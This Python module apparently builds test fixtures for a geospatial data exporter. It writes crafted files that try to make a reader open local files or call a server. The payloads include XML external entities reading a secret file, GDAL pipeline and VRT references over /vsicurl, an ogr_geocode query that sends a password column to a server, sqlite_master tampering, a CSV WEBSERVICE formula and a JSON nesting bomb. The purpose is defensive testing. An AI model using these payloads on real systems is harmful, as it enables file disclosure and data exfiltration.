"""Files that would make a reader open another file, or ask a server, if it did as they say."""

import hashlib
import json
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import geopandas as gpd
import shapely

CANARY = "canary-5b1d"
POINT = {"type": "Point", "coordinates": [-73.5, 45.0]}
FEATURE = {"type": "Feature", "properties": {"a": 1}, "geometry": POINT}
WHOLE: dict[str, Any] = {"type": "FeatureCollection", "features": [FEATURE]}
PIPELINE = "gdal vector pipeline ! read {} ! edit --crs EPSG:4326"
GEOCODE = "ogr_geocode({}, 'geometry', 'QUERY_TEMPLATE={}/geocode/%s', 'WRITE_CACHE=FALSE')"
VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{}</SrcDataSource>'
    "<SrcLayer>secret</SrcLayer><LayerSRS>EPSG:4326</LayerSRS></OGRVRTLayer></OGRVRTDataSource>"
)
KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>{}</href></Link>'
WFS = "<OGRWFSDataSource><URL>{}/wfs</URL></OGRWFSDataSource>"
CAPABILITIES = (
    '<wfs:WFS_Capabilities xmlns:wfs="http://www.opengis.net/wfs/2.0" version="2.0.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><wfs:Operation name="GetFeature">'
    '<wfs:Get xlink:href="{}/wfs"/></wfs:Operation></wfs:WFS_Capabilities>'
)
GML = (
    '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xsi:schemaLocation="http://example.org {0}/a.xsd"><gml:featureMember>'
    '<a gml:id="a"><gml:pointProperty xlink:href="{0}/point.gml#p"/></a></gml:featureMember>'
)
ENTITY = (
    '<!DOCTYPE {0} [<!ENTITY x SYSTEM "{1}"><!ENTITY % y SYSTEM "{2}/y.dtd"> %y;]><{0}>&x;</{0}>'
)
GRAPHML = (
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:schemaLocation="http://graphml.graphdrawing.org/xmlns {}/graphml.xsd">'
    '<graph edgedefault="directed"/></graphml>'
)


def crafted(folder: Path, server: str, secret: Path) -> dict[str, Path]:
    """Write one file of each kind into a folder; none of them should lead anywhere.

    Parameters
    ----------
    server
        The address that some of them ask for something.
    secret
        A file that others read, which holds the canary.
    """
    secret.write_text(f"user,pass\nroot,{CANARY}\n")
    for name, what in _texts(server, secret).items():
        text = json.dumps(what) if isinstance(what, dict) else what
        (folder / name).write_bytes(text if isinstance(text, bytes) else str(text).encode())
    one = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(-73.5, 45)], crs="EPSG:4326")
    for name, statements in _databases(server, secret).items():
        one.to_file(folder / name, layer="edges")
        with closing(sqlite3.connect(folder / name)) as database, database:
            for statement in statements:
                database.execute(statement)
    (folder / "table.moaw").write_bytes((folder / "table.gpkg").read_bytes())
    one.to_file(folder / "prj.shp")
    (folder / "prj.prj").write_text(f"{server}/prj")
    stated(one, folder / "init.parquet", f"+init={secret}:x")
    return {path.name: path for path in sorted(folder.iterdir()) if path.suffix not in COMPANIONS}


def _texts(server: str, secret: Path) -> dict[str, str | bytes | dict[str, Any]]:
    """Return what files of text hold, by their names."""
    curl = f"/vsicurl/{server}/a.geojson"
    leak = GEOCODE.format("pass", server)
    return {
        "pipeline.geojson": _pipeline(PIPELINE.format(curl)),
        "pipeline_file.geojson": _pipeline(PIPELINE.format(secret)),
        "pipeline_sql.geojson": _pipeline(
            f"gdal vector pipeline ! read {secret} "
            f'! sql --dialect SQLITE "SELECT {leak} FROM secret"'
        ),
        "pipeline_later.geojson": '{"a": "' + "x" * 5000 + '",' + _pipeline(curl)[1:],
        "pipeline_within.geojson": WHOLE | {"x": json.loads(_pipeline(PIPELINE.format(curl)))},
        "pipeline_twice.geojson": json.dumps(WHOLE)[:-1] + "," + _pipeline(curl)[1:],
        "pipeline.gdalg.json": _pipeline(PIPELINE.format(secret)),
        "link.geojson": WHOLE | {"crs": _link(server)},
        "link_last.geojson": WHOLE | {"CRS": {"TYPE": "URL", "properties": {"url": f"{server}/c"}}},
        "link_within.geojson": _with_geometry(POINT | {"crs": _link(server)}),
        "link_name.geojson": WHOLE | {"crs": named(f"{server}/crs")},
        "link_escaped.geojson": json.dumps(WHOLE | {"crs": _link(server)}).replace(
            "crs", "\\u0063rs"
        ),
        "init.geojson": WHOLE | {"crs": named(f"+init={secret}:x")},
        "grid.geojson": WHOLE | {"crs": named(f"+proj=longlat +nadgrids={secret} +no_defs")},
        "topology.geojson": {"type": "Topology", "objects": {"a": POINT}, "arcs": [], "href": curl},
        "esri.geojson": {"geometryType": "esriGeometryPoint", "features": [], "url": f"{server}/0"},
        "stac.geojson": WHOLE
        | {"stac_version": "1.0.0", "links": [{"rel": "next", "href": f"{server}/next"}]},
        "stac_item.geojson": FEATURE | {"stac_version": "1.0.0", "assets": {"a": {"href": curl}}},
        "process.moaw": WHOLE | {"process": f"{server}/process", "inputs": {}},
        "landing.json": {"links": [{"rel": "data", "href": f"{server}/collections"}]},
        "deep.geojson": '{"type":"FeatureCollection","features":'
        + "[" * 100_000
        + "]" * 100_000
        + "}",
        "vrt.geojson": VRT.format(f"{server}/a.geojson"),
        "vrt_file.gpkg": VRT.format(secret),
        "vrt_curl.parquet": "\n" + VRT.format(curl),
        "network.kml": KML.format(f"{server}/a.kml"),
        "service.xml": WFS.format(server),
        "service.geojson": CAPABILITIES.format(server),
        "schema.gml": GML.format(server),
        "entities.osm": ENTITY.format("osm", secret, server),
        "entities.graphml": ENTITY.format("graphml", secret, server),
        "entities_later.graphml": f"<!--{'x' * 9000}-->" + ENTITY.format("graphml", secret, server),
        "schema.graphml": GRAPHML.format(server),
        "entities.gpx": ENTITY.format("gpx", secret, server),
        "word.fgb": b"fgb\x03fgb\x01" + VRT.format(f"{server}/a.geojson").encode(),
        "link.csv": f'name,lat,lon\n=WEBSERVICE("{server}/x"),{curl},{secret}\n',
    }


def _databases(server: str, secret: Path) -> dict[str, list[str]]:
    """Return what is done to GeoPackages of one point, by their names."""
    leak = GEOCODE.format("pass", server)
    quoted = leak.replace("'", "''")
    return {
        "view.gpkg": [
            _as_layer("secret"),
            f"CREATE VIEW secret AS SELECT {leak} FROM (SELECT 1 pass)",
        ],
        "pixel.gpkg": [
            _as_layer("secret"),
            "CREATE VIEW secret AS "
            f"SELECT gdal_get_pixel_value('/vsicurl/{server}/r.tif', 1, 0, 0)",
        ],
        "table.gpkg": [
            _as_layer("secret"),
            "PRAGMA writable_schema = ON",
            "INSERT INTO sqlite_master VALUES ('table', 'secret', 'secret', 0, "
            f"'CREATE VIRTUAL TABLE secret USING VirtualOGR(''{secret}'')')",
        ],
        "said_table.gpkg": [
            _as_layer("secret"),
            "PRAGMA writable_schema = ON",
            "INSERT INTO sqlite_master VALUES ('table', 'secret', 'secret', 0, "
            f"'CREATE VIEW secret AS SELECT {quoted} FROM (SELECT 1 pass)')",
        ],
        "system.gpkg": [
            f"UPDATE gpkg_spatial_ref_sys SET definition = '{server}/crs', organization = 'x', "
            "organization_coordsys_id = 77, srs_id = 77 WHERE srs_id = 4326",
            "UPDATE gpkg_contents SET srs_id = 77",
            "UPDATE gpkg_geometry_columns SET srs_id = 77",
        ],
    }


COMPANIONS = (".shx", ".dbf", ".prj", ".cpg")


def _pipeline(command: str) -> str:
    return json.dumps({"type": "gdal_streamed_alg", "command_line": command})


def _link(server: str) -> dict[str, Any]:
    return {"type": "link", "properties": {"href": f"{server}/crs", "type": "proj4"}}


def named(name: str) -> dict[str, Any]:
    return {"type": "name", "properties": {"name": name}}


def _with_geometry(geometry: dict[str, Any]) -> dict[str, Any]:
    return WHOLE | {"features": [FEATURE | {"geometry": geometry}]}


def _as_layer(name: str) -> str:
    return (
        "INSERT INTO gpkg_contents (table_name, data_type, identifier) "
        f"VALUES ('{name}', 'attributes', '{name}')"
    )


def stated(frame: gpd.GeoDataFrame, path: Path, crs: str) -> None:
    """Write GeoParquet that names a system by a text."""
    from pyarrow import parquet

    frame.to_parquet(path)
    table = parquet.read_table(path)
    about = json.loads(table.schema.metadata[b"geo"])
    about["columns"]["geometry"]["crs"] = crs
    parquet.write_table(table.replace_schema_metadata({"geo": json.dumps(about)}), path)


def describe(folder: Path, kind: str, name: object, of: Path, **more: Any) -> None:
    """Write the description of an export of one table."""
    entry = {
        "name": "t",
        "path": name,
        "hash": f"sha256:{hashlib.sha256(of.read_bytes()).hexdigest()}",
        "layer": "secret",
        "schema": {"fields": [{"name": "user", "dtype": "str"}, {"name": "pass", "dtype": "str"}]},
    }
    package = {"name": "roxham-export", "format": kind, "resources": [entry | more]}
    (folder / "datapackage.json").write_text(json.dumps(package))
